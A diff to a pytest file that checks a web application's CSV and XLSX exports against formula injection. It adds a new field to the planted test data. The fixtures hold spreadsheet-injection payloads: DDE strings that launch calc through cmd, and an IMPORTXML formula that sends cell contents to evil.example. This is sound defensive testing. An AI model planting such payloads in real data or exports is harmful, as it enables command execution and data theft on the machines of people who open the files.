@@ -29,8 +29,9 @@ PERSON = "+cmd|' /C calc'!A0"
 ACTION = "-2+3+cmd|' /C calc'!A0"
 COMMENT = '@SUM(1+1)*cmd|" /C calc"!A0'
 PRACTICE = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'
-PRACTICE_EN = "\t=1+1"
-SUMMARY = "\r=2+2"
+PRACTICE_EN = "-1+1"
+SUMMARY = "\t=1+1"
+CONTEXT = "\r=2+2"
 
 
 @pytest.fixture
@@ -43,7 +44,12 @@ def planted():
         make_organisation(network, name=f"Membre {n}")
     admin = make_member(company, OrgRole.ADMIN, full_name=PERSON)
     practice = make_practice(
-        network, code="piege", title=PRACTICE, title_en=PRACTICE_EN, summary=SUMMARY
+        network,
+        code="piege",
+        title=PRACTICE,
+        title_en=PRACTICE_EN,
+        summary=SUMMARY,
+        context=CONTEXT,
     )
     Adoption.objects.create(practice=practice, organisation=company, declared_by=admin)
     assessment = assessments.start(company, latest_version(), "2026", admin)
@@ -64,6 +70,9 @@ def planted():
     Action.objects.create(
         organisation=company, title=ACTION, owner=admin, practice=practice, created_by=admin
     )
+    # What was stored is what exports write: texts are cleaned on save.
+    practice.refresh_from_db()
+    assert (practice.summary, practice.context) == (SUMMARY, CONTEXT)
     return network, company, admin, assessment
 
 
@@ -104,8 +113,8 @@ def _xlsx_cells(content: bytes) -> list:
 
 # Where each payload must appear, quoted.
 EXPECTED = {
-    "practices.csv": [PRACTICE, PRACTICE_EN, SUMMARY],
-    "practices.xlsx": [PRACTICE, PRACTICE_EN, SUMMARY],
+    "practices.csv": [PRACTICE, PRACTICE_EN, SUMMARY, CONTEXT],
+    "practices.xlsx": [PRACTICE, PRACTICE_EN, SUMMARY, CONTEXT],
     "insights.csv": [PRACTICE],
     "insights.xlsx": [PRACTICE],
     "plan.xlsx": [ORGANISATION, ACTION, PERSON, PRACTICE],
